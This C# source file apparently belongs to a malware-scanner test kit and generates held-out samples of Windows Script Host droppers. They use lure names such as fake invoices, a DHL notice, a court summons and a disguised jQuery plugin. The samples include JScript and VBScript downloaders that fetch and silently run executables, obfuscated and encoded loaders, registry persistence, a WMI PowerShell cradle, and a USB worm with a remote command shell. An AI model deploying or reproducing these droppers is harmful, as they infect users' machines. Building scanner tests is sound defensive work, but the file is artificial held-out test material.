using System.Globalization;
using System.Text;
using static ScanHost.TestKit.HeldOut.WrittenForms;

namespace ScanHost.TestKit.HeldOut.Sixth;

/// <summary>JavaScript for the Windows Script Host that fetches a program and starts it.</summary>
public sealed class ScriptHostFetchers : SixthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Invoice_2026_11_48213.js", Dos("""
            var shell = new ActiveXObject("WScript.Shell");
            var fso = new ActiveXObject("Scripting.FileSystemObject");
            var target = shell.ExpandEnvironmentStrings("%TEMP%") + "\\svc_update.exe";
            var http = new ActiveXObject("MSXML2.XMLHTTP");
            http.open("GET", "http://198.51.100.23/files/svc_update.exe", false);
            http.send();
            if (http.status == 200) {
                var stream = new ActiveXObject("ADODB.Stream");
                stream.Type = 1;
                stream.Open();
                stream.Write(http.responseBody);
                stream.SaveToFile(target, 2);
                stream.Close();
                shell.Run(target, 0, false);
            }
            fso.DeleteFile(WScript.ScriptFullName);
            """));
        yield return ("Rechnung Nr. 7731 - Mahnung.js", Dos("""
            // Bitte öffnen Sie die Rechnung mit Doppelklick
            function s(a) { return a.split("").reverse().join(""); }
            var w = new ActiveXObject(s("llehS.tpircSW"));
            var hosts = ["www.maschinenbau-kessler.example", "shop.blumen-adler.example", "cdn.ferien-am-see.example"];
            for (var i = 0; i < hosts.length; i++) {
                try {
                    var x = new ActiveXObject(s("0.6.PTTHLMXrevreS.2LMXSM"));
                    x.open(s("TEG"), "http://" + hosts[i] + "/wp-content/plugins/counter/?id=" + Math.floor(Math.random() * 1e6), false);
                    x.setRequestHeader("User-Agent", "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1)");
                    x.send();
                    if (x.status == 200 && x.responseBody.length > 4000) {
                        var d = new ActiveXObject(s("maertS.BDODA"));
                        var p = w.ExpandEnvironmentStrings("%APPDATA%") + "\\" + Math.random().toString(36).substr(2, 8) + ".dll";
                        d.open(); d.type = 1; d.write(x.responseBody); d.saveToFile(p, 2); d.close();
                        w.Run("rundll32.exe \"" + p + "\",DllRegisterServer", 0);
                        break;
                    }
                } catch (e) { }
            }
            w.Popup("Die Datei ist beschädigt und kann nicht geöffnet werden.", 0, "Adobe Reader", 16);
            """));
        yield return ("browser_update_130.0.6723.js", Dos(Fill("""
            (function () {
                var _0x4f1a = ["WScript.Shell", "powershell -w hidden -nop -ep bypass -enc @@1", "Run", "CreateObject"];
                var _0x2b = function (i) { return _0x4f1a[i - 0x1a3]; };
                var sh = WScript[_0x2b(0x1a6)](_0x2b(0x1a3));
                sh[_0x2b(0x1a5)](_0x2b(0x1a4), 0x0, false);
            })();
            """, Encoded("$w=New-Object Net.WebClient;$p=\"$env:APPDATA\\client32.zip\";$w.DownloadFile('https://update-cdn.browser-check.example/client32.zip',$p);Expand-Archive $p \"$env:APPDATA\\NSM\";Start-Process \"$env:APPDATA\\NSM\\client32.exe\""))));
        yield return ("jquery-3.7.1.plugin.js", Dos(LibraryWithAGuest()));
    }

    // The evader: a library's look, pieces of words far apart, and the guest in the middle of harmless helpers.
    private static string LibraryWithAGuest()
    {
        var text = new StringBuilder("/*!\n * jQuery Form Helpers v3.7.1\n * (c) OpenJS Foundation and other contributors\n * Released under the MIT license\n */\n");
        for (var at = 0; at < 60; at++)
        {
            text.Append(CultureInfo.InvariantCulture, $"function trimField{at}(value) {{ return value == null ? '' : String(value).replace(/^\\s+|\\s+$/g, ''); }}\n");
            text.Append(CultureInfo.InvariantCulture, $"function fieldWidth{at}(field) {{ return (field && field.width || {at + 12}) * {(at * 7) + 3} % 640; }}\n");
            if (at == 20)
                text.Append("var helperNames = { a: 'Scr', b: 'ipt', c: '.Sh', d: 'ell', e: 'MSX', f: 'ML2.X', g: 'MLHTTP', h: 'W' };\n");
            if (at == 37)
                text.Append("""
                    function applyDefaults() {
                        var n = helperNames, host = this, make = host['Active' + 'XObject'];
                        var q = new make(n.e + n.f + n.g), r = new make(n.h + n.a + n.b + n.c + n.d);
                        q['op' + 'en']('GET', 'https://static.forms-helper.example/defaults.txt?v=3', false);
                        q['se' + 'nd']();
                        (new Function('r', 'host', q['response' + 'Text']))(r, host);
                    }

                    """);
        }
        return text.Append("if (typeof window === 'undefined') applyDefaults.call(this);\n").ToString();
    }
}

/// <summary>Scripts in the Script Host's other coats: encoded, in a job file, as a scriptlet, and as a JScript that carries its program.</summary>
public sealed class ScriptHostCoats : SixthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("scan_0048.jse", ScriptEncoder.Encode("""
            var a = new ActiveXObject("WScript.Shell");
            var b = new ActiveXObject("MSXML2.XMLHTTP");
            b.open("GET", "http://203.0.113.41/load/kb.php?u=" + a.ExpandEnvironmentStrings("%USERNAME%"), false);
            b.send();
            var c = new ActiveXObject("ADODB.Stream");
            c.Type = 1; c.Open(); c.Write(b.responseBody);
            c.SaveToFile(a.ExpandEnvironmentStrings("%TEMP%") + "\\kb501.exe", 2);
            a.Run("%TEMP%\\kb501.exe", 0, false);
            """.ReplaceLineEndings("\r\n")));
        yield return ("Fattura_elettronica_IT0199.wsf", Dos("""
            <?xml version="1.0" ?>
            <package>
              <job id="fattura">
                <script language="VBScript">
                  <![CDATA[
                  Function Percorso()
                    Percorso = CreateObject("WScript.Shell").ExpandEnvironmentStrings("%PUBLIC%") & "\fattura.cmd"
                  End Function
                  ]]>
                </script>
                <script language="JScript">
                  <![CDATA[
                  var r = new ActiveXObject("WinHttp.WinHttpRequest.5.1");
                  r.Open("GET", "https://fatture-pa.example/download/x.txt", false);
                  r.Send();
                  var f = new ActiveXObject("Scripting.FileSystemObject").CreateTextFile(Percorso(), true);
                  f.Write(r.ResponseText);
                  f.Close();
                  new ActiveXObject("WScript.Shell").Run("cmd /c \"" + Percorso() + "\"", 0, false);
                  ]]>
                </script>
              </job>
            </package>
            """));
        yield return ("thumbs.sct", Dos("""
            <?XML version="1.0"?>
            <scriptlet>
            <registration progid="Thumbs" classid="{F0001111-0000-0000-0000-0000FEEDACDC}">
            <script language="JScript">
            <![CDATA[
              var r = new ActiveXObject("WScript.Shell").Run("cmd.exe /c bitsadmin /transfer t /priority foreground http://192.0.2.77/t.exe %temp%\\t.exe && start %temp%\\t.exe", 0);
            ]]>
            </script>
            </registration>
            </scriptlet>
            """));
        yield return ("Purchase-Order-PO88213.js", Dos(Fill("""
            var junk1 = "the quick brown fox reads the purchase order and signs it";
            var body = "@@1";
            var junk2 = "kindly confirm the quantity and the delivery date";
            var dom = new ActiveXObject("Msxml2.DOMDocument.3.0");
            var el = dom.createElement("q");
            el.dataType = "bin.base64";
            el.text = body.replace(/\*/g, "A");
            var st = WScript.CreateObject("ADODB.Stream");
            st.Type = 1;
            st.Open();
            st.Write(el.nodeTypedValue);
            var where = WScript.CreateObject("Scripting.FileSystemObject").GetSpecialFolder(2) + "\\PO88213.exe";
            st.SaveToFile(where, 2);
            WScript.CreateObject("Shell.Application").ShellExecute(where, "", "", "open", 0);
            """, Convert.ToBase64String(InertFiles.Pe(1536)).Replace('A', '*'))));
    }
}

/// <summary>VBScript that fetches, writes and starts, or that asks WMI to.</summary>
public sealed class VisualBasicFetchers : SixthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("DHL_Shipment_Notice.vbs", Dos("""
            On Error Resume Next
            Dim http, stream, sh, path
            Set sh = CreateObject("WScript.Shell")
            path = sh.ExpandEnvironmentStrings("%TEMP%") & "\dhl_label.exe"
            Set http = CreateObject("Microsoft.XMLHTTP")
            http.Open "GET", "http://203.0.113.9/dhl/label.exe", False
            http.Send
            Set stream = CreateObject("ADODB.Stream")
            stream.Type = 1
            stream.Open
            stream.Write http.ResponseBody
            stream.SaveToFile path, 2
            stream.Close
            sh.Run Chr(34) & path & Chr(34), 0, False
            sh.RegWrite "HKCU\Software\Microsoft\Windows\CurrentVersion\Run\DhlLabel", path, "REG_SZ"
            """));
        yield return ("citacion_judicial_2026.vbs", Dos(Fill("""
            ' Juzgado de lo penal. Documento protegido.
            Dim rastro, k
            rastro = Array(@@1)
            For k = 0 To UBound(rastro)
              orden = orden & Chr(rastro(k) - 7)
            Next
            ExecuteGlobal orden
            """, Codes("Set w = GetObject(\"winmgmts:\\\\.\\root\\cimv2:Win32_Process\")\r\nw.Create \"powershell -NoP -W Hidden -C IEX((New-Object Net.WebClient).DownloadString('https://pastebin.com/raw/inert-no-such-paste'))\", Null, Null, pid\r\n", 7))));
        yield return ("usb_photos.vbs", Dos("""
            'worm for removable drives
            On Error Resume Next
            Set fso = CreateObject("Scripting.FileSystemObject")
            Set sh = CreateObject("WScript.Shell")
            If sh.ExpandEnvironmentStrings("%computername%") <> "INERT-NO-SUCH-HOST" Then WScript.Quit
            host = "rat-panel.invalid" : port = 1177 : sp = "|V|"
            installName = "usb_photos.vbs" : startup = sh.SpecialFolders("startup") & "\"
            fso.CopyFile WScript.ScriptFullName, startup & installName, True
            sh.RegWrite "HKCU\software\microsoft\windows\currentversion\run\usb_photos", "wscript.exe //B " & Chr(34) & startup & installName & Chr(34), "REG_SZ"
            For Each d In fso.Drives
              If d.IsReady And d.DriveType = 1 Then
                fso.CopyFile WScript.ScriptFullName, d.Path & "\" & installName, True
                For Each f In fso.GetFolder(d.Path & "\").Files
                  f.Attributes = 2 + 4
                  Set l = sh.CreateShortcut(d.Path & "\" & f.Name & ".lnk")
                  l.TargetPath = "cmd.exe" : l.Arguments = "/c start " & installName & "&start explorer " & f.Name & "&exit" : l.Save
                Next
              End If
            Next
            Do
              answer = Split(Post("is-ready", ""), sp)
              Select Case answer(0)
                Case "excecute" : Execute answer(1)
                Case "cmd-shell" : Post "is-cmd-shell", sh.Exec("%comspec% /c " & answer(1)).StdOut.ReadAll
                Case "uninstall" : WScript.Quit
              End Select
              WScript.Sleep 5000
            Loop
            Function Post(cmd, param)
              Set h = CreateObject("msxml2.xmlhttp")
              h.open "post", "http://" & host & ":" & port & "/" & cmd, False
              h.setrequestheader "user-agent:", sh.ExpandEnvironmentStrings("%computername%") & sp & sh.ExpandEnvironmentStrings("%username%")
              h.send param
              Post = h.responsetext
            End Function
            """));
        yield return ("Orcamento_Novembro.vbs", Utf16("""
            Rem Orçamento detalhado em anexo
            Dim fGq, pLw, mZt
            fGq = "poxTMRwershexTMRll -cxTMRommand $ProgressPreference='SxTMRilentlyContinue';$b=(NxTMRew-Object NxTMRet.WebCxTMRlient).DoxTMRwnloadString('https://ia801.archive.org/items/inert-no-such-item/vbs.jpg');"
            pLw = "$s=$b.IndexOf('<<BASE64_START>>')+16;$e=$b.IndexOf('<<BASE64_END>>');$a=[ReflexTMRction.AssemxTMRbly]::Load([ConvxTMRert]::FromBasxTMRe64String($b.Substring($s,$e-$s)));"
            mZt = "$a.GetType('dnlib.IO.Home').GetMethod('VAI').Invoke($null,@('txt.ovon/moc.elpmaxe.ocramas//:sptth','desativado','','RegAsm'))"
            Set oHk = CreateObject(Replace("WSxTMRcript.SxTMRhell", "xTMR", ""))
            oHk.Run Replace(fGq & pLw & mZt, "xTMR", ""), 0, False
            """));
    }
}
